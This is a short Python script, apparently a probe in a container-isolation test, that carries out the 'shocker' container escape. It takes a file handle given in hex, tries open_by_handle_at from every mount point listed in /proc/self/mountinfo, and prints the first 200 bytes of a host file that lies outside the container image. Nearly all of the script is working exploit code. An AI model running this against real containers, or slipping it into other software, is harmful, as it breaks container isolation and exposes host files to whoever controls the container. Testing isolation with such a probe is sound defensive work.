"""Attacked: the files of the machine, past all paths: a file's handle opens it from any descriptor on its file
system, wherever the root of a container is ("shocker").

Won: the text of a file that is no part of the image.
"""

import ctypes
import os
import sys

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(bytes.fromhex(sys.argv[1]))
won = False
with open("/proc/self/mountinfo") as mounts:
    places = [line.split()[4] for line in mounts]
for place in places:
    try:
        near = os.open(place, os.O_RDONLY)
    except OSError:
        continue  # not even this
    file = libc.open_by_handle_at(near, handle, os.O_RDONLY)
    if file >= 0:
        print("WON", os.read(file, 200).decode())
        won = True
    os.close(near)
print("DONE" if won else "HELD")
